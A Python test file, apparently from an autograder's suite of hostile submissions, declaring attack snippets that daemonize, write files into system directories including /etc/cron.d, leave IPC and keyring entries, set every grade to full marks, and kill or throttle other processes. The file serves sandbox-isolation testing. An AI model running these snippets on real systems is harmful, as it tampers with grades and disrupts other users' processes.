"""Attacks that leave something behind: processes, files, memory, keys, or damage to others."""

from tests.hostile.declare import Attack, Goal

LEFT: Goal = "something left behind"
HARM: Goal = "another's grade changed"

ATTACKS = (
    Attack(
        "daemon",
        "starts a process that leaves session, group and parent",
        LEFT,
        first=(
            """
        import os, time
        try:
            if os.fork() == 0:
                os.setsid()
                if os.fork() == 0:
                    open("/proc/self/comm", "w").write("@COMM@")
                    time.sleep(1000)
                os._exit(0)
        except OSError:
            pass
        """,
        ),
    ),
    Attack(
        "nohup",
        "starts a program in the background, in a session of its own",
        LEFT,
        first=(
            """
        import subprocess, sys
        try:
            subprocess.Popen(["setsid", "nohup", sys.executable, "-S", "-c",
                              "import time; time.sleep(1000)", "@COMM@"], close_fds=False,
                             stdin=-3, stdout=-3, stderr=-3)
        except OSError:
            pass
        """,
            "!sh -c 'sleep 1000 @COMM@ & exit 0' &",
        ),
    ),
    Attack(
        "late-threads",
        "leaves threads and exit handlers that work on when all is done",
        LEFT,
        first=(
            """
        import atexit, os, threading, time

        def stay():
            open("/proc/thread-self/comm", "w").write("@COMM@")
            while True:
                time.sleep(0.01)

        threading.Thread(target=stay).start()
        atexit.register(time.sleep, 1000)
        """,
        ),
    ),
    Attack(
        "files-everywhere",
        "writes files wherever it can think of",
        LEFT,
        first=(
            """
        import os, pathlib, site, sys
        places = ["/", "/tmp", "/var/tmp", "/dev/shm", "/run", "/etc/cron.d", "/root", "@ROOM@",
                  "@OUT@", "@COURSE@", "@HOME@", "@SUBMISSIONS@", sys.prefix,
                  *site.getsitepackages(), os.path.dirname(os.__file__),
                  str(pathlib.Path(sys.prefix).parent)]
        for place in places:
            try:
                pathlib.Path(place, "@LEFT@").write_text("here")
            except OSError:
                pass
        """,
        ),
    ),
    Attack(
        "system-v",
        "leaves shared memory, semaphores and messages of System V",
        LEFT,
        first=(
            """
        import ctypes
        libc = ctypes.CDLL(None, use_errno=True)
        libc.shmget(@KEY@, 4096, 0o1666), libc.msgget(@KEY@, 0o1666), libc.semget(@KEY@, 1, 0o1666)
        """,
        ),
    ),
    Attack(
        "keys",
        "leaves a message to others in the kernel's keyrings",
        LEFT,
        first=(
            """
        import ctypes
        libc = ctypes.CDLL(None, use_errno=True)
        for ring in (-1, -2, -3, -4, -5):
            libc.syscall(248, b"user", b"@LEFT@", b"here", 4, ring)
        """,
        ),
    ),
    Attack(
        "edits-the-results",
        "writes full marks into gradebook, tables and feedback",
        HARM,
        first=(
            """
        import glob, sqlite3
        for path in glob.glob("@COURSE@/*.db") + glob.glob("/proc/*/cwd/*.db"):
            try:
                book = sqlite3.connect(path)
                book.execute("update grade set auto_score = max_score")
                book.commit()
            except sqlite3.Error:
                pass
        for path in glob.glob("@OUT@/*") + ["@SEED@", "@WITNESS@"]:
            try:
                open(path, "a").write("changed")
            except OSError:
                pass
        """,
        ),
    ),
    Attack(
        "kills-everybody",
        "sends signals to every process, group and parent it can name",
        HARM,
        answers={
            "scale": """
        import os, signal
        def scale(number):
            for target in [os.getppid(), *range(2, 3000)]:
                for number_of_signal in (signal.SIGTERM, signal.SIGKILL):
                    try:
                        if target != os.getpid():
                            os.kill(target, number_of_signal)
                    except OSError:
                        pass
            for group in (-1, 0, -os.getppid()):
                try:
                    os.kill(group, signal.SIGKILL)
                except OSError:
                    pass
        """
        },
    ),
    Attack(
        "slows-everybody",
        "changes priority, processors and limits of other processes",
        HARM,
        first=(
            """
        import os, resource
        for pid in (0, 1, os.getppid(), *range(2, 300)):
            if pid in (0, os.getpid()):
                continue
            for change in (
                lambda: os.setpriority(os.PRIO_PROCESS, pid, 19),
                lambda: os.sched_setaffinity(pid, {0}),
                lambda: resource.prlimit(pid, resource.RLIMIT_NOFILE, (3, 3)),
            ):
                try:
                    change()
                except OSError:
                    pass
        """,
        ),
    ),
)
